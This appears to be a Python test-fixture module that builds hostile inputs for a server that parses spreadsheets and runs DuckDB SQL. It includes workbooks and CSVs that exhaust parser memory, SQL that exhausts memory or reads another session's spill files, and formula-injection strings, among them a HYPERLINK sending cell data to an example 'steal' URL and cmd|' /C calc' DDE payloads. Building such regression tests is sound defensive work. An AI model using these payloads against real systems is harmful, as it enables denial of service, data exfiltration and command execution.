"""The hostile corpus: every input known to have hurt a server like ours, written by the tests.

Each builder returns the bytes (or the SQL text) of one attack, so the corpus lives in the
repository as code, small and readable, rather than as binary fixtures. Files:

* the 1.4 KB workbooks whose one far cell reference python-calamine sizes the sheet by
  (``xfd1048576``, ``XFD01048576``, ``ZZZZ99999999``, a tab or a line break between ``<c``
  and ``r=``): it tries to allocate hundreds of GB and aborts the process;
* a legacy .xls whose one BIFF NUMBER record sits at row and column 0xFFFF;
* a 20 MB CSV of one line with ten million columns;
* a 2 KB workbook with one row of 16,384 cells, and one holding only A1 and XFD1220;
* a workbook whose shared-string table declares a trillion strings (the parser reserves 24 TB).

SQL: statements whose scalar functions allocate outside DuckDB's memory limit, a result the
row cap does not bound in bytes, and a deep nesting that once made the syntax check give up
before ``read_blob('.tmp/*')``.
"""

from __future__ import annotations

import io
import struct
import zipfile

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '</Types>')
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')


def xlsx(sheet_data: str, shared_strings: str | None = None) -> bytes:
    """A complete one-sheet workbook whose ``<sheetData>`` is exactly ``sheet_data``, with a
    shared-string part holding ``shared_strings`` when given."""
    sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             f'<sheetData>{sheet_data}</sheetData></worksheet>')
    content_types, workbook_rels = _CONTENT_TYPES, _WORKBOOK_RELS
    if shared_strings is not None:
        content_types = content_types.replace("</Types>", (
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'))
        workbook_rels = workbook_rels.replace("</Relationships>", (
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", content_types)
        z.writestr("_rels/.rels", _RELS)
        z.writestr("xl/workbook.xml", _WORKBOOK)
        z.writestr("xl/_rels/workbook.xml.rels", workbook_rels)
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        if shared_strings is not None:
            z.writestr("xl/sharedStrings.xml", shared_strings)
    return out.getvalue()


def string_count_workbook(declared: int) -> bytes:
    """One shared string, declared as ``declared``: the parser reserves room for that many."""
    return xlsx('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        f'uniqueCount="{declared}"><si><t>ticket_id</t></si></sst>'))


_HEADER_ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>ticket_id</t></is></c></row>'

#: The far references: each makes the parser size the sheet past any memory.
FAR_CELLS: dict[str, str] = {
    "lower_case": '<row r="2"><c r="xfd1048576"><v>1</v></c></row>',
    "eight_digits": '<row r="2"><c r="XFD01048576"><v>1</v></c></row>',
    "four_letters": '<row r="2"><c r="ZZZZ99999999"><v>1</v></c></row>',
    "tab": '<row r="2"><c\tr="XFD1048576"><v>1</v></c></row>',
    "newline": '<row r="2"><c\nr="XFD1048576"><v>1</v></c></row>',
}


def far_reference_workbook(kind: str) -> bytes:
    return xlsx(_HEADER_ROW + FAR_CELLS[kind])


def column_letters(n: int) -> str:
    s = ""
    while n:
        n, r = divmod(n - 1, 26)
        s = chr(65 + r) + s
    return s


def wide_row_workbook(columns: int = 16_384) -> bytes:
    """One row of ``columns`` cells, each the number 1, placed one after the other (no
    references, as the format allows): about 2 KB compressed."""
    return xlsx('<row r="1">' + "<c><v>1</v></c>" * columns + "</row>")


def corner_cells_workbook() -> bytes:
    """Cells A1 and XFD1220 only: two cells spanning 19,988,480."""
    return xlsx('<row r="1"><c r="A1" t="inlineStr"><is><t>ticket_id</t></is></c></row>'
                '<row r="1220"><c r="XFD1220"><v>1</v></c></row>')


# --- a legacy workbook: a BIFF8 stream in a minimal OLE2 (compound file) container ----------

_FREE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def _record(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def _bof(dt: int) -> bytes:
    return _record(0x0809, struct.pack("<HHHHII", 0x0600, dt, 0x0DBB, 0x07CC, 0, 0x0006))


def biff_number(row: int, col: int, value: float) -> bytes:
    """A BIFF NUMBER record: row, column, format index, IEEE double."""
    return _record(0x0203, struct.pack("<HHHd", row, col, 0, value))


def xls(cell_records: bytes, sheet_name: str = "Sheet1") -> bytes:
    """A .xls holding one worksheet made of ``cell_records`` (BIFF8 records)."""
    name = sheet_name.encode("latin-1")

    def globals_part(sheet_offset: int) -> bytes:
        boundsheet = _record(0x0085, struct.pack("<IBBBB", sheet_offset, 0, 0, len(name), 0) + name)
        return _bof(0x0005) + boundsheet + _record(0x000A, b"")

    offset = len(globals_part(0))
    stream = globals_part(offset) + _bof(0x0010) + cell_records + _record(0x000A, b"")
    stream += b"\x00" * (max(4096, -(-len(stream) // 512) * 512) - len(stream))  # not a mini stream
    return _compound_file({"Workbook": stream})


def _compound_file(streams: dict[str, bytes]) -> bytes:
    """A version-3 compound file (512-byte sectors): one FAT sector, one directory sector,
    then each stream (each at least 4,096 bytes, so none lives in the mini stream)."""
    sectors: list[bytes] = []
    fat = [_FAT, _END]  # sector 0: the FAT, sector 1: the directory
    starts = {}
    for name, data in streams.items():
        assert len(data) % 512 == 0 and len(data) >= 4096
        first = 2 + sum(len(s) // 512 for s in sectors)
        count = len(data) // 512
        starts[name] = first
        fat += [first + i + 1 for i in range(count - 1)] + [_END]
        sectors.append(data)
    assert len(fat) <= 128 and len(streams) <= 3
    fat_sector = struct.pack("<128I", *(fat + [_FREE] * (128 - len(fat))))

    def entry(name: str, kind: int, child: int, start: int, size: int) -> bytes:
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        return (encoded.ljust(64, b"\x00") + struct.pack("<HBB", len(encoded), kind, 1)
                + struct.pack("<III", _FREE, _FREE, child) + b"\x00" * 36
                + struct.pack("<IQ", start, size))

    entries = [entry("Root Entry", 5, 1 if streams else _FREE, _END, 0)]
    names = list(streams)
    for i, name in enumerate(names):
        # a chain of right siblings keeps the (red-black) tree valid for any reader
        e = bytearray(entry(name, 2, _FREE, starts[name], len(streams[name])))
        if i + 1 < len(names):
            e[72:76] = struct.pack("<I", 2 + i)
        entries.append(bytes(e))
    empty = b"\x00" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", _FREE, _FREE, _FREE) \
        + b"\x00" * 36 + struct.pack("<IQ", 0, 0)
    directory = b"".join(entries + [empty] * (4 - len(entries)))
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16
              + struct.pack("<HHHHH", 0x003E, 0x0003, 0xFFFE, 9, 6) + b"\x00" * 6
              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _END, 0, _END, 0)
              + struct.pack("<109I", 0, *([_FREE] * 108)))
    assert len(header) == 512 and len(directory) == 512
    return header + fat_sector + directory + b"".join(sectors)


def far_record_xls() -> bytes:
    """One NUMBER record at row and column 0xFFFF: four billion cells for the parser."""
    return xls(biff_number(0, 0, 1.0) + biff_number(0xFFFF, 0xFFFF, 2.0))


def wide_csv(columns: int = 10_000_000) -> bytes:
    """One line of ``columns`` one-letter cells: 20 MB."""
    return b"a," * (columns - 1) + b"a\n"


# --- SQL ----------------------------------------------------------------------------------

_LONG_A, _LONG_B = "a" * 60_000, "b" * 60_000

#: Statements that once took the server past its memory or read another session's spill.
HOSTILE_SQL: dict[str, str] = {
    "generate_series": "SELECT len(generate_series(1, 400000000)) AS n",
    "list_resize": "SELECT len(list_resize([1], 300000000)) AS n",
    "damerau_levenshtein": f"SELECT damerau_levenshtein('{_LONG_A}', '{_LONG_B}') AS d",
    "repeat": "SELECT repeat('x', 400000) FROM range(10001)",
    "nested_read_blob": "SELECT " + "abs(" * 450 + "1" + ")" * 450 + " AS x, * FROM read_blob('.tmp/*')",
}

#: Values a spreadsheet program runs as formulas when a CSV or workbook is opened.
FORMULA_VALUES = ('=HYPERLINK("http://example.com/steal?d="&A1, "click")',
                  "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0")
